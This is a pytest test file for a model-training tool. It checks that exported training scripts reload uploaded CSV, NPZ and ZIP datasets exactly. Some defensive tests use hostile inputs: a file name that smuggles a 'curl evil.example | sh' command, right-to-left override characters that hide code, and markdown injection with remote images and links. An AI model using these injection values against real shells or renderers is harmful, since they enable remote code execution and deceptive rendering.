"""A run's script on an upload reads the person's own file, and every script loads its weights."""

import io
import json
import re
import subprocess
import sys
import zipfile
from html import escape
from pathlib import Path
from typing import Any

import numpy as np
import pytest
import torch
from fastapi.testclient import TestClient
from markdown_it import MarkdownIt
from PIL import Image

from torchcanvas.design.schema import Design
from torchcanvas.export.bundle_readme import readme
from torchcanvas.hidden_text import HIDDEN
from torchcanvas.training.data import find_dataset, load_split
from torchcanvas.training.data.storage import DatasetRecord
from torchcanvas.training.script_data import data_code
from torchcanvas.training.script_header import script_header
from torchcanvas.training.settings import TrainingSettings

from .conftest import DIGITS_CNN, DIGITS_TRAINING, wait_for
from .test_codegen import run_script
from .test_datasets_upload import mlp, upload
from .upload_files import blobs_csv, shapes_zip

_EPOCH = re.compile(r"^epoch (\d+)  train_loss (\S+)  val_loss (\S+)", re.MULTILINE)


def prices_csv(rows: int = 60) -> bytes:
    """A regression: a price column, in units far from 1, from two features and noise."""
    rng = np.random.default_rng(1)
    lines = ["rooms,area,price"]
    for _ in range(rows):
        rooms, area = rng.integers(1, 6), rng.uniform(20, 200)
        lines.append(f"{rooms},{area:.1f},{1000 * rooms + 50 * area + rng.normal(0, 500):.0f}")
    return ("\n".join(lines) + "\n").encode()


def gaps_csv(rows: int = 60) -> bytes:
    """Rows with missing values (NA, an empty cell, a "?" target), and labels that are numbers in
    its first rows and text after: the careful reader reads the first ones again as text."""
    lines = ["a,b,label"]
    for i in range(rows):
        a = "NA" if i % 9 == 4 else str(i)
        b = "" if i % 11 == 7 else f"{i % 5}.5"
        label = "?" if i == 30 else (str(i % 2) if i < 20 else f"c{i % 2}")
        lines.append(f"{a},{b},{label}")
    return ("\n".join(lines) + "\n").encode()


def prices_with_gaps() -> bytes:
    """prices_csv with a cell of every seventh row missing: an area, a price, rooms in turn."""
    header, *rows = prices_csv().decode().splitlines()
    for n in range(3, len(rows), 7):
        cells = rows[n].split(",")
        cells[n % 3] = ["", "n/a", "NaN"][n % 3]
        rows[n] = ",".join(cells)
    return ("\n".join([header, *rows]) + "\n").encode()


def photos_zip() -> bytes:
    """JPEG photos in two class folders, one taken sideways (EXIF orientation 6): decoded small
    (JPEG draft) and turned upright before they are resized."""
    rng = np.random.default_rng(2)
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for i in range(8):
            photo = Image.fromarray(rng.integers(0, 256, (48, 64, 3), dtype=np.uint8))
            exif = photo.getexif()
            exif[0x0112] = 6 if i == 0 else 1
            jpeg = io.BytesIO()
            photo.save(jpeg, format="JPEG", exif=exif.tobytes())
            archive.writestr(f"{'cats' if i % 2 else 'dogs'}/{i}.jpg", jpeg.getvalue())
    return out.getvalue()


def sixteen_bit_zip() -> bytes:
    """16-bit grey PNGs (a microscope's or a scan's), levels 0 to 65535 in two class folders."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for i in range(8):
            ramp = np.linspace(0, 65535, 16 * 16).reshape(16, 16).astype(np.uint16)
            picture = io.BytesIO()
            Image.fromarray(ramp if i % 2 else ramp[::-1]).save(picture, format="PNG")
            archive.writestr(f"{'up' if i % 2 else 'down'}/{i}.png", picture.getvalue())
    return out.getvalue()


def transparent_zip() -> bytes:
    """Icons: dark shapes on transparent backgrounds (RGBA, and a palette PNG's transparency)."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for i in range(8):
            icon = np.zeros((16, 16, 4), dtype=np.uint8)
            icon[4:12, 2 + i % 2 : 10 + i % 2] = (30, 60, 90, 255)
            picture = io.BytesIO()
            image = Image.fromarray(icon, "RGBA")
            (image if i < 4 else image.quantize()).save(picture, format="PNG")
            archive.writestr(f"{'left' if i % 2 else 'right'}/{i}.png", picture.getvalue())
    return out.getvalue()


def npz_file(**arrays: np.ndarray) -> bytes:
    out = io.BytesIO()
    np.savez(out, **arrays)
    return out.getvalue()


def _script(code: str, path: Path) -> dict[str, Any]:
    """The script's names, as `import` would give them (main() not run)."""
    namespace: dict[str, Any] = {"__name__": "generated", "__file__": str(path)}
    exec(compile(code, str(path), "exec"), namespace)
    return namespace


def _printed(command: list[str], folder: Path) -> str:
    """What `python script.py [file]` prints in `folder`, run in a new python as a person runs it."""
    ran = subprocess.run(
        [sys.executable, *command], cwd=folder, capture_output=True, text=True, timeout=120
    )
    assert ran.returncode == 0, ran.stderr
    return ran.stdout


def _train(client: TestClient, design: dict[str, Any], **training: Any) -> str:
    reply = client.post("/api/runs", json={"design": design, "training": training})
    assert reply.status_code == 201, reply.text
    run_id: str = reply.json()["id"]
    assert wait_for(client, run_id, {"succeeded", "failed"}, timeout=120)["status"] == "succeeded"
    return run_id


def _epochs(client: TestClient, run_id: str) -> list[dict[str, Any]]:
    events = client.get(f"/api/runs/{run_id}/events", params={"limit": 1000}).json()
    return [e for e in events if e["type"] == "epoch"]


@pytest.mark.parametrize(
    ("name", "data", "fields", "outputs", "loss", "in_python"),
    [
        ("flowers.csv", blobs_csv(60), {"target": "species", "val_fraction": "0.25"}, 3, "CrossEntropyLoss", False),
        ("houses.csv", prices_csv(), {}, 1, "MSELoss", True),
    ],
    ids=["classes", "regression"],
)  # fmt: skip
def test_a_csv_runs_script_trains_on_the_csv_as_the_run_did(
    client: TestClient,
    tmp_path: Path,
    name: str,
    data: bytes,
    fields: dict[str, str],
    outputs: int,
    loss: str,
    in_python: bool,
) -> None:
    record = upload(client, name, data, **fields)
    inputs = record["sample_shape"]
    training = {"dataset": record["id"], "loss": loss, "optimizer": "Adam", "lr": 0.01}
    run_id = _train(client, mlp("table", inputs, outputs), **training, epochs=2, batch_size=16)
    code = client.get(f"/api/runs/{run_id}/code.py").text
    assert f"trained on {name} ({record['id']})" in code  # named by the person's file
    (tmp_path / "table.py").write_text(code)
    (tmp_path / "mine").mkdir()
    (tmp_path / "mine" / name).write_bytes(data)

    # `python table.py mine/flowers.csv`: the person's CSV, at a path of their choosing. A new
    # python costs seconds of imports, so the regression runs in a namespace here instead.
    if in_python:
        out = run_script(tmp_path / "table.py", ["table.py", f"mine/{name}"])
    else:
        out = _printed(["table.py", f"mine/{name}"], tmp_path)
    printed = [(int(e), float(t), float(v)) for e, t, v in _EPOCH.findall(out)]
    epochs = _epochs(client, run_id)
    assert [p[0] for p in printed] == [e["epoch"] for e in epochs] == [1, 2]
    for (_, train_loss, val_loss), event in zip(printed, epochs, strict=True):
        assert train_loss == pytest.approx(event["train_loss"], abs=1e-4)
        assert val_loss == pytest.approx(event["val_loss"], abs=1e-4)
    if outputs > 1:
        accuracy = float(out.split("val_accuracy ")[-1])
        assert accuracy == pytest.approx(epochs[-1]["val_accuracy"], abs=1e-4)


def test_a_script_without_its_file_says_in_one_line_what_to_pass(
    client: TestClient, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    record = upload(client, "flowers.csv", blobs_csv(30), target="species")
    info = find_dataset(record["id"], client.app.state.services.settings.data_dir)  # type: ignore[attr-defined]
    part = data_code(info)
    code = "\n".join(sorted(part.imports)) + "\n" + part.code
    script = _script(code, tmp_path / "flowers.py")
    monkeypatch.setattr(sys, "argv", ["flowers.py"])
    with pytest.raises(SystemExit) as stopped:
        script["load_data"]()
    assert str(stopped.value) == (
        "flowers.csv not found: give the path of the file you uploaded to TorchCanvas, as in: "
        "python flowers.py path/to/flowers.csv"
    )
    (tmp_path / "other.csv").write_bytes(b"a,b,c\n1,2,3\n")
    script["DATA_FILE"] = str(tmp_path / "other.csv")  # `python flowers.py PATH` sets it
    with pytest.raises(SystemExit) as stopped:
        script["load_data"]()
    assert str(stopped.value) == (
        f"{tmp_path / 'other.csv'} has no column `f1`: give the CSV you uploaded, with its header."
    )


def test_the_command_a_script_suggests_quotes_its_file_name_for_a_shell(
    client: TestClient, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The uploader names the file, and whoever reads the script (a share link's visitor, a
    teacher) may paste the command it suggests: `;`, `$(…)` and spaces went to the shell."""
    name = "d.csv; $(curl -s evil.example|sh); x.csv"
    record = upload(client, name, blobs_csv(30), target="species")
    info = find_dataset(record["id"], client.app.state.services.settings.data_dir)  # type: ignore[attr-defined]
    header = script_header(Design.model_validate(DIGITS_CNN), info, None, "tab")
    assert f"`python tab.py '{name}'`" in " ".join(header.split())
    part = data_code(info)
    script = _script("\n".join(sorted(part.imports)) + "\n" + part.code, tmp_path / "t.py")
    monkeypatch.setattr(sys, "argv", ["my script.py"])
    with pytest.raises(SystemExit) as stopped:
        script["load_data"]()
    assert str(stopped.value).endswith(f"as in: python 'my script.py' 'path/to/{name}'")


@pytest.mark.parametrize(
    ("name", "data", "fields"),
    [
        ("flowers.csv", blobs_csv(60), {"target": "species", "val_fraction": "0.25"}),
        ("houses.csv", prices_csv(), {}),
        ("excel.csv", prices_csv().replace(b",", b";").replace(b".", b","), {}),
        ("semicolons.csv", b'"a, cm";b;label\n' + b"".join(b"%d,5;%d;c%d\n" % (i, i % 7, i % 3) for i in range(40)), {}),
        ("labels.csv", b"a,b,label\n" + b"".join(b"%d,%d,%d.0\n\n" % (i, i % 7, i % 3) for i in range(40)), {}),
        ("stamps.csv", b"when,price,late\n" + b"".join(b"%d,123456.%02d,%d\n" % (10**9 + i * 7 % 81 - 40, 73 + i % 11, i * 7 % 81 > 40) for i in range(60)), {}),
        ("pandas.csv", b",id,a,b,label,\n" + b"".join(b"%d,C%d,%d,%d,c%d,\n" % (i, i, i, i % 7, i % 3) for i in range(40)), {"drop": ["id"]}),
        ("pandas-semicolons.csv", b";id;a;label;\n" + b"".join(b"%d;C%d;%d,5;%d;\n" % (i, i, i, i % 3) for i in range(40)), {"drop": ["id"]}),
        ("gaps.csv", gaps_csv(), {"target": "label", "missing": "drop"}),
        ("gaps-regression.csv", prices_with_gaps(), {"missing": "drop"}),
        ("pairs.npz", npz_file(x=np.arange(120.0).reshape(40, 3), y=np.array([2.0, 5.0] * 20)), {}),
        ("text.npz", npz_file(x=np.arange(40, dtype=np.uint8).reshape(40, 1), y=np.array(["b", "a"] * 20)), {}),
        ("sums.npz", npz_file(x=np.arange(40.0).reshape(20, 2), y=np.arange(20.0) + 0.5), {}),
        ("onehot.npz", npz_file(x=np.arange(60.0).reshape(20, 3), y=np.eye(3)[np.arange(20) % 3]), {}),
        ("hw.npz", npz_file(x=np.arange(20 * 9 * 8.0).reshape(20, 9, 8), y=np.arange(20) % 2), {}),
        ("hwc.npz", npz_file(x=np.arange(20 * 6 * 5 * 3, dtype=np.uint8).reshape(20, 6, 5, 3), y=np.arange(20) % 2), {}),
        ("shapes.zip", shapes_zip(per_class=6), {"image_size": "12", "color": "grayscale"}),
        ("colour.zip", shapes_zip(per_class=4, top=""), {"image_size": "8"}),
        ("photos.zip", photos_zip(), {"image_size": "8"}),
        ("scans.zip", sixteen_bit_zip(), {"image_size": "16", "color": "grayscale"}),
        ("icons.zip", transparent_zip(), {"image_size": "16"}),
        ("ordered.zip", shapes_zip(per_class=6), {"image_size": "8", "class_order": ["squares", "crosses"]}),
    ],
    ids=["csv-text-labels", "csv-regression", "csv-semicolons-regression", "csv-semicolons", "csv-number-labels-blank-lines", "csv-large-values",
         "csv-pandas-index-excel-column-id-left-out", "csv-semicolons-left-out", "csv-rows-with-missing-values-left-out",
         "csv-regression-rows-with-missing-values-left-out", "npz", "npz-text-bytes",
         "npz-regression", "npz-one-hot", "npz-one-channel", "npz-channels-last", "zip-grey", "zip-colour", "zip-jpeg-photos", "zip-16-bit", "zip-transparent",
         "zip-class-order"],
)  # fmt: skip
def test_an_uploads_script_reads_exactly_the_tensors_it_trained_on(
    client: TestClient,
    tmp_path: Path,
    name: str,
    data: bytes,
    fields: dict[str, Any],
) -> None:
    """The person's file, read by the script, gives the stored split, bit for bit."""
    record = upload(client, name, data, **fields)
    data_dir = client.app.state.services.settings.data_dir  # type: ignore[attr-defined]
    info = find_dataset(record["id"], data_dir)
    part = data_code(info)
    code = "\n".join(sorted(part.imports)) + "\n" + part.code
    if name.startswith("pandas"):  # what the script leaves out, and why, as the upload said
        index, empty = "column 1 (no name; row numbers, an index)", "(no name; empty)"
        last = f"column {5 if name == 'pandas-semicolons.csv' else 6} {empty}"
        assert f'LEFT_OUT = ["{index}", "`id` (chosen)", "{last}"]' in code
    if name.startswith("gaps"):  # the rows the upload left out, left out again
        left = {"gaps.csv": 12, "gaps-regression.csv": 9}[name]
        assert f"LEAVE_OUT_MISSING = True  # {left} rows with a missing value" in code
        assert f" {left} rows with a missing value left out (the first on line " in record["help"]
    (tmp_path / name).write_bytes(data)
    script = _script(code, tmp_path / "net.py")
    script["DATA_FILE"] = str(tmp_path / name)  # `python net.py PATH` sets it
    got = script["load_data"]()
    expected = load_split(record["id"], data_dir)
    for mine, theirs in zip(
        got, (expected.x_train, expected.y_train, expected.x_val, expected.y_val), strict=True
    ):
        assert mine.dtype == theirs.dtype and torch.equal(mine, theirs)
        # Laid out alike too: a one-channel image's channel of stride 0 (numpy's x[:, None]) read
        # as channels-last, and Conv2d took another kernel, whose last bits BatchNorm's running
        # statistics grew into another validation loss (a review of the exports).
        assert mine.stride() == theirs.stride()


def test_hidden_characters_of_an_upload_are_escaped_in_its_script(
    client: TestClient, tmp_path: Path
) -> None:
    """A right-to-left override in a file's name, its columns and its labels went into the
    script as it was: code that reads otherwise than it runs ("Trojan Source"), and a title
    "\u202egpj.csv" that showed as a .jpg. Such column names are refused now (csv_names.py);
    an upload kept before with them still gets a script that reads its file. (Such labels are
    refused now too: label_names.py.)"""
    name = "\u202egpj.csv"
    plain = "".join(f"{i % 5},{i % 3},c{i % 2}\n" for i in range(40))
    record = upload(client, name, f"a,b,label\n{plain}".encode())
    rows = "".join(f"{i % 5},{i % 3},c\u202e{i % 2}\n" for i in range(40))
    data = f"a\u202e,b\x01,label\n{rows}".encode()  # the file as an older server took it
    data_dir: Path = client.app.state.services.settings.data_dir  # type: ignore[attr-defined]
    meta_path = data_dir / "datasets" / record["id"] / "meta.json"
    meta = json.loads(meta_path.read_text())
    meta["record"]["standardisation"]["features"] = ["a\u202e", "b\x01"]
    meta["record"]["classes"] = ["c\u202e0", "c\u202e1"]  # the labels as the file has them
    meta["columns"] = ["a\u202e", "b\x01", "label"]
    meta_path.write_text(json.dumps(meta))
    assert record["title"] == "gpj.csv"
    run_id = _train(client, mlp("table", record["sample_shape"], 2), dataset=record["id"],
        loss="CrossEntropyLoss", optimizer="Adam", lr=0.01, epochs=1, batch_size=16)  # fmt: skip
    code = client.get(f"/api/runs/{run_id}/code.py").text
    assert not re.search(f"[{HIDDEN}]".replace("\\x00-\\x1f", "\\x00-\\x09\\x0b-\\x1f"), code)
    compile(code, "table.py", "exec")
    script = _script(code, tmp_path / "table.py")
    assert script["DATA_FILE"] == name and script["CLASSES"] == ["c\u202e0", "c\u202e1"]
    assert script["FEATURES"] == ["a\u202e", "b\x01"]
    (tmp_path / name).write_bytes(data)
    script["DATA_FILE"] = str(tmp_path / name)
    x_train, *_ = script["load_data"]()
    assert torch.equal(x_train, load_split(record["id"], data_dir).x_train)


def test_a_scripts_load_trained_gives_the_runs_model(client: TestClient, tmp_path: Path) -> None:
    """load_trained() with the run's weights file scores what the run's last epoch scored."""
    run_id = _train(client, DIGITS_CNN, **{**DIGITS_TRAINING, "epochs": 1})
    path = tmp_path / "digits.py"
    path.write_text(client.get(f"/api/runs/{run_id}/code.py").text)
    script = _script(path.read_text(), path)
    with pytest.raises(FileNotFoundError, match=r"download weights\.safetensors into"):
        script["load_trained"]()
    # Saved under the name the Run page's "Download weights" gives it, as a browser saves it.
    weights = client.get(f"/api/runs/{run_id}/weights.safetensors")
    [name] = re.findall(r'filename="([^"]+)"', weights.headers["content-disposition"])
    assert name == f"{DIGITS_CNN['name']}-{run_id[:6]}.safetensors"
    (tmp_path / name).write_bytes(weights.content)
    model = script["load_trained"]()
    _, _, x_val, y_val = script["load_data"]()
    val_loss, val_accuracy = script["evaluate"](model, x_val, y_val)
    [last] = _epochs(client, run_id)
    assert val_loss == pytest.approx(last["val_loss"], abs=1e-4)
    assert val_accuracy == pytest.approx(last["val_accuracy"], abs=1e-4)


def test_the_bundle_readme_names_an_upload_by_its_file() -> None:
    training = TrainingSettings(
        dataset="upload-0123456789ab", loss="CrossEntropyLoss", optimizer="Adam", lr=0.01,
        epochs=1, batch_size=16,
    )  # fmt: skip
    info = find_dataset("digits").model_copy(
        update={"title": "good.csv", "name": "upload-0123456789ab", "source": "upload"}
    )
    text = readme(Design.model_validate(DIGITS_CNN), training, info, "0123456789abcdef")
    assert "Trained with TorchCanvas on `good.csv` (uploaded as `upload-0123456789ab`)" in text
    assert "channels last" not in text
    # An NPZ whose images were turned channels first: the reader's must be too.
    record = DatasetRecord(
        **info.model_dump(), id=info.name, format="npz", file_name="photos.npz",
        created_at=0.0, val_fraction=0.2, channels_last=True,
    )  # fmt: skip
    assert "`x = np.moveaxis(x, -1, 1)` on a batch" in readme(
        Design.model_validate(DIGITS_CNN), training, record, "0123456789abcdef"
    )


def test_names_in_the_bundle_readme_read_as_themselves_not_as_markdown() -> None:
    """A design's name, a dataset's title and a column's name are their owner's words, and the
    README a visitor or a teacher opens rendered them: a remote image, a link, raw HTML, a code
    span closed early by a backtick."""
    name = "net ![x](http://evil.example/p.png) <b>bold</b> [click](http://evil.example) *a*"
    title = "tab`le` ![y](http://evil.example/q.png).csv"
    training = TrainingSettings(
        dataset="upload-0123456789ab", loss="CrossEntropyLoss", optimizer="Adam", lr=0.01,
        epochs=1, batch_size=16,
    )  # fmt: skip
    info = find_dataset("digits").model_copy(
        update={"title": title, "name": "upload-0123456789ab", "source": "upload"}
    )
    design = Design.model_validate({**DIGITS_CNN, "name": name})
    html = MarkdownIt().render(readme(design, training, info, "0123456789abcdef"))
    assert "<img" not in html and "<a " not in html and "<b>" not in html and "<em>" not in html
    assert f"<h1>{escape(name, quote=False)}</h1>" in html
    assert f"<code>{escape(title, quote=False)}</code>" in html
